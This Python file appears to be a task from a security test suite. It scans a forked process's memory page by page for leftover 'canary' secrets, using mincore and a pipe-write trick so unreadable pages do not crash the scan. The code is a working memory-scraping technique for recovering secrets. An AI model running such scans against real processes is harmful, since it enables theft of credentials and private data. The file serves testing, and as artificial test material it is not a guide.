# mypy: ignore-errors
"""
id = "L02b"
title = "Scan the raw memory of the process page by page"
goal = "Freed memory of the process it was forked from still holds the secrets."
succeeds = ["canary"]
base = "starter"
any_problem = true
stops = 5
"""

import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)
PAGE, STEP = 4096, 1 << 21
vector = ctypes.create_string_buffer(STEP // PAGE)


def scan(start, length):
    if libc.mincore(ctypes.c_void_p(start), ctypes.c_size_t(length), vector) == 0:
        for page in range(start, start + length, PAGE):
            # The kernel reads for us: where a page is closed it says so, and nothing crashes.
            if libc.write(pipe[1], ctypes.c_void_p(page), PAGE) == PAGE:
                for found in re.findall(rb"canary-[a-z]+-[0-9a-f]{16}", os.read(pipe[0], PAGE)):
                    print(found.decode())
    elif length > PAGE:
        scan(start, length // 2)
        scan(start + length // 2, length // 2)


pipe = os.pipe()
# The heap lies around the objects that are made at start, the arenas around those made now.
places = {id(thing) // STEP for thing in (None, object(), bytearray(1 << 19), {}, print, "x" * 99_999, ctypes)}
for place in sorted({near for place in places for near in range(place - 12, place + 13)}):
    scan(place * STEP, STEP)
